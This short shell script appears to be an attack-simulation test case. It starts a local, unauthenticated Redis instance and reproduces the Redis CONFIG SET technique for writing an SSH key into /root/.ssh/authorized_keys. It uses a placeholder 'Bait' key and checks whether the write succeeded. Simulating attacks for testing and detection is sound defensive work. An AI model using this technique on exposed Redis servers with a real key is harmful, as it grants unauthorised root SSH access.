#!/bin/sh
. /opt/case/case.sh

redis-server --port 6390 --bind 127.0.0.1 --save '' --daemonize yes --protected-mode no --enable-protected-configs yes >/dev/null
until redis-cli -p 6390 ping >/dev/null 2>&1; do sleep 0.1; done
mkdir -p /root/.ssh
printf '\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABait crackit\n\n' | redis-cli -p 6390 -x set crackit >/dev/null
for c in 'config set dir /root/.ssh' 'config set dbfilename authorized_keys' 'config set rdbcompression no' save; do redis-cli -p 6390 $c >/dev/null; done
grep -qa Bait /root/.ssh/authorized_keys; redis-cli -p 6390 shutdown nosave
took_place
